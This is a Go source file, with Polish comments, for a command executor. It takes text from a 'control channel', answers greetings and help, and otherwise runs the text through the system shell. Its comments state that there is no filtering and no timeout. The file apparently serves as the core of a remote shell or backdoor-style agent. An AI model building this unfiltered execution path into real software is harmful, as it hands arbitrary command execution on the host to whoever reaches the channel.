// internal/executor/executor.go

package executor

import (
	"context"
	"errors"
	"fmt"
	"os/exec"
	"runtime"
	"strings"
	"unicode/utf8"
)

// Odpowiedzi tekstowe protokołu sterującego
const (
	GreetingResponse = "Greetings! How can I help you today?"
	HelpResponse     = "Available commands: help, <shell commands>\nType any shell command to execute it."
	NoOutputResponse = "(Command executed with no output)"
	FailureResponse  = "unable to fetch command, please type help for instructions"
	errorPrefix      = "Error executing command: "
)

var greetings = map[string]struct{}{
	"hi":        {},
	"hello":     {},
	"hey":       {},
	"greetings": {},
	"hola":      {},
}

// DefaultShell zwraca interpreter poleceń dla bieżącego systemu
func DefaultShell() []string {
	if runtime.GOOS == "windows" {
		return []string{"cmd", "/C"}
	}
	return []string{"/bin/sh", "-c"}
}

// Executor wykonuje polecenia otrzymane kanałem sterującym.
// Polecenie trafia do powłoki bez żadnej filtracji.
type Executor struct {
	shell []string
}

// New tworzy executor; pusty shell oznacza DefaultShell()
func New(shell []string) *Executor {
	if len(shell) == 0 {
		shell = DefaultShell()
	}
	return &Executor{shell: shell}
}

// Builtin zwraca odpowiedź dla wbudowanych komend (powitania i help)
func Builtin(command string) (string, bool) {
	normalized := strings.ToLower(strings.TrimSpace(command))
	if _, ok := greetings[normalized]; ok {
		return GreetingResponse, true
	}
	if normalized == "help" {
		return HelpResponse, true
	}
	return "", false
}

// Execute zwraca zawsze niepusty tekst odpowiedzi.
// Błędy polecenia są zamieniane na komunikaty, nigdy nie są zwracane wyżej.
// Polecenie nie ma limitu czasu; ctx przerywa je tylko przy zamykaniu serwera.
func (e *Executor) Execute(ctx context.Context, command string) string {
	if response, ok := Builtin(command); ok {
		return response
	}

	args := append(append([]string(nil), e.shell[1:]...), command)
	cmd := exec.CommandContext(ctx, e.shell[0], args...)
	output, err := cmd.CombinedOutput()
	if err != nil {
		var exitErr *exec.ExitError
		if errors.As(err, &exitErr) {
			return FailureResponse
		}
		return errorPrefix + err.Error()
	}

	if !utf8.Valid(output) {
		return errorPrefix + "output is not valid UTF-8"
	}
	if len(output) == 0 {
		return NoOutputResponse
	}
	return string(output)
}

// ErrorResponse formatuje błąd wewnętrzny jako odpowiedź protokołu
func ErrorResponse(err error) string {
	return fmt.Sprintf("%s%v", errorPrefix, err)
}
